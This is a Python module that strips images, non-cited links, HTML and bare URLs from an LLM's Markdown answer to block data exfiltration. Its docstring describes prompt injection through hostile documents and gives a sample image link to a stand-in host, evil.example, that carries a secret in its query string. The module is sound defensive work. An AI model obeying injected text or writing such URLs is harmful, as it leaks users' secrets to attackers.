"""What an LLM's answer may link to: nothing but the sources it cites.

An answer is Markdown that a person's browser or terminal may render. Text the model was shown
(documents, possibly hostile) can ask it to write an image or link whose URL carries what it read
(``![x](https://evil.example/?q=SECRET)``): rendering fetches the URL, and the secret is gone.
:func:`guard_links` keeps a link only when its target is the URI of a source the answer may cite
(the evidence it was shown, which includes the project's own image URIs) and drops everything
else that could make a renderer fetch or link: images the model wrote (kgrag adds the images of
cited sources itself, after this), other inline links (their text stays), reference definitions
and reference-style links, autolinks, raw HTML, and bare URLs."""

from __future__ import annotations

import re
from collections.abc import Collection

#: What replaces a URL that is not a cited source.
REMOVED = "(link removed)"

_IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)")
_INLINE_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)\n]*)?\)")
_REFERENCE_DEFINITION = re.compile(r"(?m)^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S.*$\n?")
# [text][label] and [text][]; the citation markers [1][2] are numbers, kept
_REFERENCE_LINK = re.compile(r"\[([^\]\n]*[^\d\]\n][^\]\n]*)\]\[[^\]\n]*\]")
_HTML = re.compile(r"</?[A-Za-z!?][^>\n]*>")
_BARE_URL = re.compile(r"(?i)\b(?:https?|ftp|file|data|javascript|vbscript):[^\s<>()\[\]]+")


def guard_links(text: str, allowed: Collection[str]) -> str:
    """``text`` with every image, link and URL removed except links to ``allowed`` targets."""
    kept: list[str] = []

    def link(m: re.Match[str]) -> str:
        label, target = m.group(1), m.group(2)
        if target in allowed:
            kept.append(m.group(0))
            return f"\x00{len(kept) - 1}\x00"
        return label

    out = text.replace("\x00", "")
    out = _IMAGE.sub("", out)
    out = _INLINE_LINK.sub(link, out)
    out = _REFERENCE_DEFINITION.sub("", out)
    out = _REFERENCE_LINK.sub(r"\1", out)
    out = _HTML.sub("", out)
    out = _BARE_URL.sub(lambda m: m.group(0) if m.group(0) in allowed else REMOVED, out)
    return re.sub(r"\x00(\d+)\x00", lambda m: kept[int(m.group(1))], out)
